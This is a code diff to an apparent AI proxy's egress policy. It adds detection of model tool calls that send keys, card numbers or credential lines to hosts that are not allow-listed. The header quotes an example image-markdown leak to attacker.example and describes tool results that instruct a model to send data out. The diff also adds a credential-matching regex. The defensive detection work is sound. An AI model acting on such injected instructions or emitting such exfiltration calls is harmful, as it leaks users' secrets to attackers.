@@ -2,8 +2,10 @@
 allowed. The classic leak is an answer holding `![](https://attacker.example/?q=<secret>)`: the
 client's markdown renderer fetches the image by itself and the query reaches the attacker, no
 click needed. Images from hosts not allow-listed are therefore blocked by default, as are URLs
-whose query, path or subdomain carries an encoded blob, IP-literal and look-alike hosts and
-`javascript:` URLs; other links to unlisted hosts and `data:` URLs are logged.
+whose query, path or subdomain carries data (encoded or written out), IP-literal and look-alike
+hosts and `javascript:` URLs, tool results telling the model to send data out, and emitted tool
+calls sending data to an unlisted host through another argument than its URL; other links to
+unlisted hosts and `data:` URLs are logged.
 
 Each kind has its own action (`allow`, `log`, `block`, `confirm`, `redact`); `redact` replaces
 the URL with `[REDACTED:<kind>]` (in streamed answers too), except in tool calls the model
@@ -20,7 +22,7 @@ from typing import Any, ClassVar, Literal
 
 from pydantic import Field, field_validator
 
-from capsem_proxy.decisions import Decision
+from capsem_proxy.decisions import Decision, Verdict
 from capsem_proxy.detectors.base import Detector, Finding
 from capsem_proxy.detectors.exfil_instructions import (
     MAY_NAME_DESTINATION,
@@ -40,8 +42,9 @@ from capsem_proxy.detectors.urls import (
     registrable_domain,
 )
 from capsem_proxy.detectors.urls.find import FoundUrl, image_reference_labels
-from capsem_proxy.hooks import ModelResponse, ToolResponse
-from capsem_proxy.policies.detector_policy import DetectorOptions, DetectorPolicy, Place, json_strings
+from capsem_proxy.detectors.urls.plain_data import plain_data
+from capsem_proxy.hooks import ModelResponse, ToolCall, ToolResponse
+from capsem_proxy.policies.detector_policy import DetectorOptions, DetectorPolicy, Place, combined, json_strings
 from capsem_proxy.scanning import current_ledger, screen, too_large_decision
 
 __all__ = ["DEFAULT_ACTIONS", "EgressOptions", "EgressPolicy"]
@@ -50,7 +53,7 @@ EgressAction = Literal["allow", "log", "block", "confirm", "redact"]
 # The URL kinds, and a tool result telling the model to send data to a URL not allow-listed.
 EgressKind = Literal[
     "markdown_image", "link", "data_url", "script_url", "encoded_query", "ip_host", "homograph",
-    "exfiltration_instruction",
+    "exfiltration_instruction", "data_upload",
 ]
 
 DEFAULT_ACTIONS: dict[str, EgressAction] = {
@@ -62,6 +65,7 @@ DEFAULT_ACTIONS: dict[str, EgressAction] = {
     "data_url": "log",
     "link": "log",
     "exfiltration_instruction": "block",
+    "data_upload": "block",
 }
 _PHRASES = {
     "markdown_image": "image from a host not allow-listed",
@@ -72,8 +76,22 @@ _PHRASES = {
     "data_url": "data: URL",
     "link": "link to a host not allow-listed",
     "exfiltration_instruction": "tool result instructing to send data to a host not allow-listed",
+    "data_upload": "tool call sending data to a host not allow-listed",
 }
 _MAX_DOMAINS_NAMED = 3
+# A call's arguments read for `data_upload`: at most this many strings, destinations in the short
+# ones, data in the first characters of each (an upload's body may be long; its head says enough).
+_MAX_UPLOAD_VALUES = 64
+_MAX_DESTINATION_CHARS = 2048
+_MIN_UPLOAD_CHARS = 6
+_MAX_UPLOAD_CHARS = 8192
+# A private key's body, a credentials file's or an environment's secret lines (a value given, not
+# documentation naming the format).
+_CREDENTIALS = re.compile(
+    r"-----BEGIN [A-Z ]{0,20}PRIVATE KEY-----\s*[A-Za-z0-9+/=]{16}|"
+    r"(?i:\b(?:aws_secret_access_key|aws_session_token|client_secret|refresh_token)\b\s*[:=]\s*\S{8})|"
+    r"\b[A-Z][A-Z0-9_]{0,40}(?:_TOKEN|_SECRET|_KEY|_PASSWORD)\s*=\s*[^\s.]{8}"
+)
 _DEFAULT_SCAN: list[Place] = ["answers", "tool_calls", "tool_results"]
 # Evidence of the injection detector that makes a URL in a tool result an exfiltration instruction.
 _INSTRUCTION_FAMILIES = frozenset(
@@ -244,11 +262,46 @@ class EgressPolicy(DetectorPolicy):
         decision.extra["families"] = families
         return decision
 
+    async def on_tool_call(self, event: ToolCall) -> Decision | None:
+        """Emitted calls: the URLs of their arguments (see `decide`), and a call that sends data
+        to a host not allow-listed through its other arguments (`http_request(url=<unlisted>,
+        body=<a key>)`, `send_email(to=<unlisted address>, body=<card number>)`): the URL or
+        address carries nothing, the request does (`data_upload`)."""
+        decision = await super().on_tool_call(event)
+        if not event.emitted or self._kind_actions["data_upload"] == "allow":
+            return decision
+        if decision is not None and decision.verdict is Verdict.BLOCK:
+            return decision
+        return combined(decision, self._data_upload(json_strings(event.args)))
+
+    def _data_upload(self, values: list[str]) -> Decision | None:
+        """A `data_upload` decision when one of `values` names a destination not allow-listed and
+        another holds data written out or encoded (see `urls.plain_data`)."""
+        if len(values) < 2 or len(values) > _MAX_UPLOAD_VALUES:
+            return None
+        destinations: list[tuple[int, Destination]] = []
+        for index, value in enumerate(values):
+            if len(value) <= _MAX_DESTINATION_CHARS and MAY_NAME_DESTINATION.search(value):
+                destinations.extend((index, item) for item in self._unlisted_destinations(value))
+        if not destinations:
+            return None
+        carrying = {index for index, value in enumerate(values)
+                    if len(value) >= _MIN_UPLOAD_CHARS and _holds_data(value[:_MAX_UPLOAD_CHARS])}
+        chosen = [item for index, item in destinations if carrying - {index}]
+        if not chosen:
+            return None
+        findings = [Finding("data_upload", item.start, item.end, item.text) for item in chosen]
+        decision = self.decision_for("on_tool_call", findings, can_redact=False)
+        domains = list(dict.fromkeys(domain for item in chosen for domain in [_domain_of(item)] if domain))
+        decision.details = f"{_PHRASES['data_upload']} ({', '.join(domains[:_MAX_DOMAINS_NAMED])})"
+        decision.extra["domains"] = domains
+        return decision
+
     def _unlisted_destinations(self, text: str) -> list[Destination]:
         """URLs the URL detector would report, and e-mail addresses and scheme-less hosts whose
         host is not allow-listed."""
-        urls = (Destination(found.start, found.end, found.text, "") for found in find_urls(text)
-                if self.url_detector.kinds_of(found))
+        urls = (Destination(found.start, found.end, found.text, "", found.context == "image")
+                for found in find_urls(text, spaced_targets=False) if self.url_detector.kinds_of(found))
         allowed = self.url_detector.allowed
         return [destination for destination in find_destinations(text, urls)
                 if not destination.host or not (allowed.allows_host(destination.host)
@@ -370,6 +423,13 @@ class EgressPolicy(DetectorPolicy):
             if candidate.start == offset:
                 return FoundUrl(found.start, found.end, found.text, candidate.context, found.complete)
         return found
+
+
+def _holds_data(value: str) -> bool:
+    """`value` holds someone's data: written out (a card or social security number, an IBAN, a key
+    of a known format, "password: ..."), a private key, or a credentials file's lines. E-mail
+    addresses and phone numbers do not count: letters and requests carry their sender's."""
+    return plain_data(value, sentences=False, contacts=False) or _CREDENTIALS.search(value) is not None
 
 
 def _domain_of(destination: Destination) -> str:
